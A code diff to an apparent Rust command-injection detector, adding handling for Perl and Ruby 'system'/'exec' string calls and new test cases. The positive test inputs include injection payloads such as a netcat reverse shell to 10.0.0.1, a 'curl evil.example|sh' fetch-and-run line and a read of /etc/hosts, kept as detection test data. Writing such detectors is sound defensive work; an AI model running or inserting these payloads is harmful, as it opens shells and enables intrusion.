@@ -603,6 +603,21 @@ impl Rce {
                 && candidate.contains(['?', '*', '['])
                 && self.glob_command(&candidate);
             let Some(strong) = kind.or(globbed.then_some(true)) else {
+                // Perl's and Ruby's `system "touch /tmp/x"` and `exec 'id'` hand the string
+                // to a shell (in Perl's `@{[ ... ]}` too): read it as the commands of a group.
+                if matches!(
+                    candidate.trim_start_matches('['),
+                    "system" | "exec" | "spawn"
+                ) && b[i..]
+                    .iter()
+                    .find(|c| !matches!(c, b' ' | b'\t'))
+                    .is_some_and(|&c| c == b'"' || c == b'\'')
+                {
+                    sep = Sep::Group;
+                    expect_cmd = true;
+                    sep_end = i;
+                    continue;
+                }
                 // An unknown word glued to a separator and followed by an option or a path
                 // (`;perf --version`, `|foo /etc`) is still shell syntax.
                 let glued =
@@ -1032,6 +1047,8 @@ fn evidence_after(b: &[u8], mut i: usize) -> Evidence {
         return Evidence::End;
     }
     match c {
+        // `/>` closes an empty markup element (`<foo val=`bar' />`): no path.
+        b'/' if b.get(i + 1) == Some(&b'>') => Evidence::None,
         b'-' | b'/' | b'~' | b'$' | b'>' | b'<' | b'*' | b'\\' => Evidence::Argument,
         b'.' if matches!(b.get(i + 1), Some(b'/' | b'.')) => Evidence::Argument,
         b'a'..=b'z'
@@ -1253,6 +1270,9 @@ mod tests {
                 "{{['id']|filter('system')}}",
                 "--upload-pack=touch /tmp/pwned",
                 "-oProxyCommand=curl evil.example|sh",
+                "@{[system \"touch /tmp/blns.fail\"]}",
+                "system 'cat /etc/hosts'",
+                "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
             ],
         );
     }
@@ -1277,6 +1297,9 @@ mod tests {
                 "tired; sleep 8 hours",
                 "Name\nid\nemail",
                 "Version 2.1\nid is optional",
+                "the system \"just works\" for us",
+                "exec 'Kim' signs off today",
+                "<foo val=`bar' />",
             ],
         );
     }
